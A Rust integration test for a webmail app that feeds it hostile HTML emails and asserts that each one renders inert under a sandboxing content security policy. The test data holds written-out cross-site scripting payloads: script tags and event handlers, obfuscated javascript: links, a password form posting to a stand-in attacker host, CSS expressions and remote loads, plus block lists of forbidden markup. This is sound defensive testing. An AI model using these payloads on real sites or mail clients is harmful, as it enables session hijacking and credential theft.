//! Hostile HTML mail, one trick per message, as the web app serves it to the sandboxed frame:
//! each comes out inert, under a policy that forbids scripts and remote loads anyway.
//! (The browser test `browser::hostile` opens the same kinds of mail in Chromium.)

use axum::http::StatusCode;

use super::{ADMIN, deliver};
use crate::web::harness::App;

/// One hostile message: what it tries, its HTML, and what must not come out.
const CASES: &[(&str, &str, &[&str])] = &[
    (
        "script",
        "<p>Hi</p><script>parent.document.title='owned'</script><SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        &["<script", "owned", "evil.test"],
    ),
    (
        "event handlers",
        "<img src=x onerror=\"alert(1)\"><p onclick=alert(2) onmouseover='alert(3)'>Hi</p>\
         <body onload=alert(4)><svg onload=alert(5)></svg>",
        &[
            "onerror",
            "onclick",
            "onmouseover",
            "onload",
            "alert",
            "<svg",
        ],
    ),
    (
        "iframes",
        "<iframe src=\"https://evil.test/\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\">\
         </iframe><frameset><frame src=https://evil.test/></frameset><object data=x></object><embed src=x>",
        &[
            "<iframe",
            "srcdoc",
            "<frame",
            "<object",
            "<embed",
            "evil.test",
        ],
    ),
    (
        "forms",
        "<form action=\"https://evil.test/steal\" method=post><input type=password name=p>\
         <button formaction=https://evil.test/>Sign in</button><select><option>x</select>\
         <textarea>t</textarea></form>",
        &[
            "<form",
            "<input",
            "<button",
            "formaction",
            "<select",
            "<textarea",
            "evil.test",
        ],
    ),
    (
        "CSS expressions and loads",
        "<style>body{background:url(https://evil.test/s)} @import 'https://evil.test/i.css';</style>\
         <div style=\"width:expression(alert(1));color:red\">a</div>\
         <div style=\"background:url(https://evil.test/b)\">b</div>\
         <div style=\"behavior:url(x.htc);-moz-binding:url(https://evil.test/x.xml)\">c</div>\
         <link rel=stylesheet href=https://evil.test/l.css>",
        &[
            "<style",
            "expression",
            "url(",
            "behavior",
            "binding",
            "<link",
            "evil.test",
        ],
    ),
    (
        "remote images",
        "<img src=\"https://evil.test/open.gif\"><img src=\"http://evil.test/2.gif\">\
         <img srcset=\"https://evil.test/3.gif 2x\"><table background=\"https://evil.test/4.gif\">\
         <tr><td>x</td></tr></table><video poster=https://evil.test/5.gif></video>",
        &["evil.test", "<video"],
    ),
    (
        "javascript: links",
        "<a href=\"javascript:alert(1)\">a</a><a href=\"  JAVASCRIPT:alert(2)\">b</a>\
         <a href=\"jav&#x09;ascript:alert(3)\">c</a><a href=\"data:text/html;base64,PHNjcmlwdD4=\">d</a>\
         <a href=\"vbscript:x\">e</a><area href=\"javascript:alert(4)\">",
        &["javascript", "alert", "data:", "vbscript"],
    ),
    (
        "meta and base",
        "<meta http-equiv=refresh content=\"0;url=https://evil.test/\"><base href=\"https://evil.test/\">\
         <a href=\"relative\">r</a>",
        &["<meta http-equiv", "evil.test", "href=\"relative\""],
    ),
];

#[tokio::test]
async fn each_hostile_mail_renders_inert() {
    let app = App::start().await;
    let cookie = app.sign_in_admin().await;
    for (uid, (what, html, forbidden)) in CASES.iter().enumerate() {
        let raw = format!(
            "From: mallory@evil.test\nSubject: {what}\nContent-Type: text/html; charset=utf-8\n\n{html}\n"
        );
        deliver(&app, ADMIN, &raw).await;
        let url = format!("/mail/admin@localhost/folder/INBOX/{}", uid + 1);
        let page = app.get(&url, Some(&cookie)).await;
        assert_eq!(page.status, StatusCode::OK, "{what}");
        // The mail never appears inside the page itself, only in the frame.
        assert!(!page.body.contains("evil.test/"), "{what}: {}", page.body);
        let body = app.get(&format!("{url}/body"), Some(&cookie)).await;
        assert_eq!(body.status, StatusCode::OK, "{what}");
        let csp = body.header("content-security-policy");
        assert!(
            csp.contains("default-src 'none'")
                && csp.contains("sandbox")
                && !csp.contains("script"),
            "{what}: {csp}"
        );
        let mail = &body.body[body.body.find("<body>").unwrap()..];
        let lower = mail.to_ascii_lowercase();
        for bad in *forbidden {
            assert!(
                !lower.contains(&bad.to_ascii_lowercase()),
                "{what}: {bad} survived in {mail}"
            );
        }
        // Asking for remote images lets in images only, never scripts or frames.
        let remote = app
            .get(&format!("{url}/body?remote=1"), Some(&cookie))
            .await;
        let lower = remote.body.to_ascii_lowercase();
        for bad in [
            "<script",
            "<iframe",
            "onerror",
            "javascript:",
            "expression",
            "<form",
        ] {
            assert!(!lower.contains(bad), "{what} with remote images: {bad}");
        }
    }
}
